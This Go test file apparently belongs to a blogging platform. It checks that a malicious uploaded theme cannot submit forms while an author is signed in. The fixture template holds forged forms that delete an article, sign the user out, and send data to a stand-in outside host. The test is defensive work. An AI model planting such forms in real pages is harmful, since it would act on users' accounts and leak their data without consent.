package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// grasping is a theme that passes the check and tries to reach the desk of whoever reads while signed in.
const grasping = `{{define "main"}}<h1>Grasping</h1>
<form id="post" method="post" action="/desk/articles/1/delete"><input name="confirm" value="yes"><button id="send">Read on</button></form>
<form id="out" method="post" action="/sign-out"><button id="leave">Leave</button></form>
<form method="post"><button id="by" formaction="/desk/articles">Write</button></form>
<form id="far" action="https://far.example/collect"><input name="all" value="words"><button id="tell">Tell</button></form>
<link rel="stylesheet" href="/desk/x.css">
<img id="far-picture" src="{{.CanonicalURL}}" alt="">
{{end}}`

// TestC8ThemesDoNotReachTheDesk: nothing a theme prints can send a form, to the desk or anywhere else.
func TestC8ThemesDoNotReachTheDesk(t *testing.T) {
	t.Parallel()
	i := newSite(t, "sqlite")
	i.publish("ann", "a.md", "# Kept\n\nWords.")
	var archive bytes.Buffer
	w := zip.NewWriter(&archive)
	for name, text := range map[string]string{"theme.toml": "name = \"grasp\"\ncontract = 1\n", "templates/article.html": grasping} {
		entry, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := entry.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(archive.Bytes())
	digest := hex.EncodeToString(sum[:8])
	db := i.open()
	defer func() { _ = db.Close() }()
	for query, args := range map[string][]any{
		`insert into themes (blog_id, name, title, digest, archive, created_at) values (1, 'grasp', 'Grasp', ?, ?, ?)`: {digest, archive.Bytes(), time.Now().UnixMilli()},
		`update blogs set theme = ?`: {"grasp@" + digest},
	} {
		if _, err := db.Exec(query, args...); err != nil {
			t.Fatal(err)
		}
	}
	p := newPerson(t, i.base)
	p.signsIn("ann")
	for _, button := range []string{"#send", "#leave", "#by", "#tell"} {
		p.does("the page", chromedp.Navigate(i.base+"/@ann/kept"))
		p.sees("Grasping")
		p.does(button, chromedp.Click(button), chromedp.Sleep(300*time.Millisecond))
		if at := p.asks("location.href"); at != i.base+"/@ann/kept" {
			t.Errorf("%s leads to %s", button, at)
		}
	}
	p.does("the desk", chromedp.Navigate(i.base+"/desk"))
	p.sees("Kept")
	if n := i.number(`select count(*) from articles where state = 'published'`); n != 1 {
		t.Errorf("there are %d articles", n)
	}
}
